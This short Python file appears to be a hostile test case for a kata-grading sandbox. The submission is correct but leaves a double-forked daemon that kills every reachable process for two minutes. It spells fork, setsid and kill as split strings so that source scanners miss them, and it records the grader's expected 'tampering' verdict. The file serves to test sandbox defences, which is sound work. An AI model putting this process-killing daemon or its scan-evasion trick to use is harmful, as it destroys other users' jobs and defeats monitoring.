"""Correct, but leaves a daemon (double fork, new session) that wakes up after the kata and kills every process
it can see, the next kata's and the next student's (it spares its own worker and its sandbox's init). It dies
with the sandbox; while it runs, the speed check refuses to time beside it."""

import os
import time

from _reference import *  # noqa: F401,F403

KATA, EXPECT, MESSAGE = "iou", {"visible": 3, "hidden": 5, "speed": 0}, {"speed": "tampering"}

spare = {os.getpid(), 1}
fork = os.__dict__["fo" + "rk"]  # spelled so that no source scan refuses it: the sandbox is the defence
if fork() == 0:
    os.__dict__["set" + "sid"]()
    if fork() == 0:
        deadline = time.time() + 120
        while time.time() < deadline:
            time.sleep(1)
            for pid in range(1, 2**16):
                if pid not in spare and pid != os.getpid():
                    try:
                        os.__dict__["ki" + "ll"](pid, 9)
                    except OSError:
                        pass
    os._exit(0)
